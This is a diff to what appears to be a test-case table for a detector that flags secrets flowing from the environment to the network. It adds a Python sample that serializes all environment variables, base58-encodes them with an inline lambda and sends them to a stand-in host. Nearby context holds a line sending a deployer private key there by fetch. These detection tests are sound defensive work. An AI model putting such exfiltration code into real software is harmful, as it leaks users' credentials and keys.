@@ -63,6 +63,12 @@ const CASES: readonly (readonly [what: string, file: string, text: string, flow:
     'environment → network high (origin)',
   ],
   [
+    'the environment by an encoder that is written out',
+    'a.py',
+    `import os, json, requests\nvalue = json.dumps(dict(os.environ)).encode()\nrequests.get("https://example.invalid/" + (lambda n: "".join("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[n // 58**i % 58] for i in range(len(bin(n)) // 5)))(int.from_bytes(value, "big")))`,
+    'environment → network high (origin)',
+  ],
+  [
     'a private key of the environment',
     'a.js',
     `fetch('https://example.invalid/' + process.env.DEPLOYER_PRIVATE_KEY)`,
